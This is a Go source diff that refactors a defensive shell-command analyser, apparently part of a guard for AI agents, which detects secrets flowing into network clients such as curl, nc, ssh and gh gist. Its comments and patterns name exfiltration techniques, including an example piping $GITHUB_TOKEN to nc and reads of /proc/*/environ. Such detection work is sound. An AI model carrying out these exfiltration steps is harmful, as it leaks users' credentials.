@@ -9,6 +9,7 @@ import (
 	"mvdan.cc/sh/v3/syntax"
 
 	"github.com/swarm-guard/swarm-guard/guard/effect"
+	"github.com/swarm-guard/swarm-guard/guard/shell"
 )
 
 // Secret exfiltration: a secret source flowing into a network sink.
@@ -35,7 +36,7 @@ var credentialName = sync.OnceValue(func() *regexp.Regexp {
 
 // varSecret is the taint of expanding $name: what its value was assigned
 // from, or "$NAME" for a credential variable from the environment.
-func (a *analyzer) varSecret(name string, st *State) string {
+func (a *analyzer) varSecret(name string, st *shell.State) string {
 	for _, v := range st.Vars[name] {
 		if v.Secret != "" {
 			return v.Secret
@@ -49,7 +50,7 @@ func (a *analyzer) varSecret(name string, st *State) string {
 
 // secretSource says which secret source runs in stmts (a substitution or
 // a pipeline stage), or "".
-func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *State) string {
+func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *shell.State) string {
 	found := ""
 	for _, s := range stmts {
 		syntax.Walk(s, func(n syntax.Node) bool {
@@ -62,7 +63,7 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *State) string {
 				// recurse into the substitutions it walks anyway.
 				var words []string
 				for _, w := range x.Args {
-					if lit := WordLiteral(w); lit != "" {
+					if lit := shell.WordLiteral(w); lit != "" {
 						words = append(words, lit)
 					} else {
 						words = append(words, "\x00")
@@ -77,7 +78,7 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *State) string {
 					names, print := 0, len(x.Args) == 0
 					for _, as := range x.Args {
 						if as.Naked && as.Name == nil && as.Value != nil {
-							if w := WordLiteral(as.Value); strings.HasPrefix(w, "-") && strings.ContainsAny(w, "px") {
+							if w := shell.WordLiteral(as.Value); strings.HasPrefix(w, "-") && strings.ContainsAny(w, "px") {
 								print = true
 							}
 							continue
@@ -89,7 +90,7 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *State) string {
 					}
 				}
 			case *syntax.Redirect:
-				if w := WordLiteral(x.Word); isEnvironFile(w) {
+				if w := shell.WordLiteral(x.Word); isEnvironFile(w) {
 					found = "the environment of another process (" + w + ")"
 				}
 			}
@@ -102,7 +103,7 @@ func (a *analyzer) secretSource(stmts []*syntax.Stmt, st *State) string {
 // printedSecret is the taint of what echo or printf prints: a credential
 // variable, or a variable assigned from a secret source, among its words
 // (echo "$GITHUB_TOKEN" | nc x 80 sends the token).
-func (a *analyzer) printedSecret(words []*syntax.Word, st *State) string {
+func (a *analyzer) printedSecret(words []*syntax.Word, st *shell.State) string {
 	for _, w := range words {
 		if s := a.partsSecret(w.Parts, st); s != "" {
 			return s
@@ -114,7 +115,7 @@ func (a *analyzer) printedSecret(words []*syntax.Word, st *State) string {
 // partsSecret is the taint of the first variable among a word's parts
 // ($X, "$X", "a${X}b"): a plain loop, no walk, since echo runs on the hot
 // path (substitutions are sources of their own, see secretSource).
-func (a *analyzer) partsSecret(parts []syntax.WordPart, st *State) string {
+func (a *analyzer) partsSecret(parts []syntax.WordPart, st *shell.State) string {
 	for _, p := range parts {
 		switch x := p.(type) {
 		case *syntax.ParamExp:
@@ -282,7 +283,7 @@ func isEnvironFile(p string) bool {
 // stageSecret is the taint of what a pipeline stage prints: the secrets
 // it reads itself, or those on its standard input, which every filter
 // (base64, gzip, openssl, sed) passes on in some form.
-func (a *analyzer) stageSecret(s *syntax.Stmt, st *State) string {
+func (a *analyzer) stageSecret(s *syntax.Stmt, st *shell.State) string {
 	if s == nil {
 		return ""
 	}
@@ -304,7 +305,7 @@ func (a *analyzer) stageSecret(s *syntax.Stmt, st *State) string {
 }
 
 // fileSecret is the taint of a file the command wrote earlier.
-func (a *analyzer) fileSecret(x Word, st *State) string {
+func (a *analyzer) fileSecret(x shell.Word, st *shell.State) string {
 	if !x.Static() {
 		return ""
 	}
@@ -329,7 +330,7 @@ func registerExfil() {
 
 // exfilSink judges a network client: does a secret leave with it, and
 // does it go to a host the policy allows?
-func (a *analyzer) exfilSink(inv *Invocation) {
+func (a *analyzer) exfilSink(inv *shell.Invocation) {
 	args := inv.Args()
 	stdin := ""
 	if inv.Stdin != nil {
@@ -343,7 +344,7 @@ func (a *analyzer) exfilSink(inv *Invocation) {
 			sent = append(sent, s)
 		}
 	}
-	fileArg := func(x Word, v string) {
+	fileArg := func(x shell.Word, v string) {
 		// curl -d @file, -T file, -F name=@file: "-" is standard input.
 		if v == "-" || v == "@-" || strings.HasSuffix(v, "=@-") || strings.HasSuffix(v, "=<-") {
 			send(stdin)
@@ -352,7 +353,7 @@ func (a *analyzer) exfilSink(inv *Invocation) {
 		if i := strings.IndexAny(v, "@<"); i >= 0 {
 			v = v[i+1:]
 		}
-		send(a.fileSecret(Word{Text: v, Src: v}, inv.State))
+		send(a.fileSecret(shell.Word{Text: v, Src: v}, inv.State))
 	}
 	switch inv.Name {
 	case "curl", "wget", "http", "https", "xh", "xhs":
@@ -423,7 +424,7 @@ func (a *analyzer) exfilSink(inv *Invocation) {
 	case "gh":
 		if len(args) >= 2 && args[0].Text == "gist" && (args[1].Text == "create" || args[1].Text == "edit") {
 			files := 0
-			p := ParseOpts(args[2:], Spec{Short: "dfa", Long: Longs("desc", "filename", "add")})
+			p := shell.ParseOpts(args[2:], shell.Spec{Short: "dfa", Long: shell.Longs("desc", "filename", "add")})
 			for _, x := range p.Operands {
 				send(x.Secret)
 				if x.Text == "-" {
@@ -455,7 +456,7 @@ func (a *analyzer) exfilSink(inv *Invocation) {
 
 // urlSecret is the secret a literal URL argument carries in its
 // user-info, judged as for WebFetch's URL (userinfoSecret).
-func urlSecret(x Word) []effect.Secret {
+func urlSecret(x shell.Word) []effect.Secret {
 	if !x.Static() || !strings.Contains(x.Text, "@") {
 		return nil
 	}
@@ -486,23 +487,23 @@ func sendEffect(by string, hosts, sent []string) effect.Send {
 // connectHosts is the host a connecting client names: nc/ncat/telnet/ftp
 // HOST [PORT], ssh [USER@]HOST; none for a listener (nc -l), socat's
 // addresses or a host only known at run time.
-func connectHosts(name string, args []Word) []string {
-	var p Parsed
+func connectHosts(name string, args []shell.Word) []string {
+	var p shell.Parsed
 	switch name {
 	case "ssh":
-		p = ParseOpts(args, Spec{Short: "BbcDEeFIiJLlmOoPpQRSWw", Stop: true})
+		p = shell.ParseOpts(args, shell.Spec{Short: "BbcDEeFIiJLlmOoPpQRSWw", Stop: true})
 		if len(p.Rest) == 0 {
 			return nil
 		}
 		return staticHost(p.Rest[0])
 	case "nc", "ncat", "netcat":
-		p = ParseOpts(args, Spec{Short: "eciIOpqsTVwxXgGmMbd", Long: Longs("exec", "sh-exec", "lua-exec", "source", "source-port",
+		p = shell.ParseOpts(args, shell.Spec{Short: "eciIOpqsTVwxXgGmMbd", Long: shell.Longs("exec", "sh-exec", "lua-exec", "source", "source-port",
 			"wait", "idle-timeout", "proxy", "proxy-type", "proxy-auth", "output", "hex-dump", "allow", "allowfile", "deny", "denyfile", "max-conns")})
 		if p.Has("l", "listen") {
 			return nil
 		}
 	case "telnet", "ftp":
-		p = ParseOpts(args, Spec{Short: "bejlnS"})
+		p = shell.ParseOpts(args, shell.Spec{Short: "bejlnS"})
 	default:
 		return nil
 	}
@@ -513,7 +514,7 @@ func connectHosts(name string, args []Word) []string {
 }
 
 // staticHost is the host of a [user@]host word, or none.
-func staticHost(x Word) []string {
+func staticHost(x shell.Word) []string {
 	if !x.Static() {
 		return nil
 	}
@@ -533,7 +534,7 @@ func staticHost(x Word) []string {
 
 // remoteSpecHost is the host of an scp/rsync operand ([user@]host:path,
 // host::module, rsync://host/…), or "".
-func remoteSpecHost(x Word) string {
+func remoteSpecHost(x shell.Word) string {
 	if !x.Static() || !isRemoteSpec(x.Text) {
 		return ""
 	}
@@ -565,5 +566,5 @@ func environTemplate(tmpl string) bool {
 		return false
 	}
 	pid, file, ok := strings.Cut(rest, "/")
-	return ok && file == "environ" && strings.Contains(pid, UnknownMark)
+	return ok && file == "environ" && strings.Contains(pid, shell.UnknownMark)
 }
